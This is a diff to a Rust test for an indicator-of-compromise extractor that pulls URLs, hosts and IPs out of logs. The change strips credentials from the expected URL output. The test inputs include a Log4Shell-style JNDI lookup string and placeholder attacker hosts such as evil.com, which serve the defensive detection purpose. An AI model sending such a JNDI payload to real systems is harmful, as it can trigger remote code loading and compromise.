@@ -38,7 +38,7 @@ fn iocs_are_found_in_logs_mails_lists_json_and_csv() {
             vec!["http://evil.com/x_(y)", "http://evil.org/", "http://evil.org/z"],
         ),
         ("GET http://[2a00:1450::1]:8080/x HTTP/1.1".into(), vec!["http://[2a00:1450::1]:8080/x"]),
-        ("http://user:pw@evil.com:8080/x".into(), vec!["http://user:pw@evil.com:8080/x"]),
+        ("http://user:pw@evil.com:8080/x".into(), vec!["http://evil.com:8080/x"]),
         ("tcp://185.220.101.7:443 tcp://evil.com:1".into(), vec!["185.220.101.7", "evil.com"]),
         ("${jndi:ldap://evil.com:1389/a}".into(), vec!["ldap://evil.com:1389/a"]),
         (
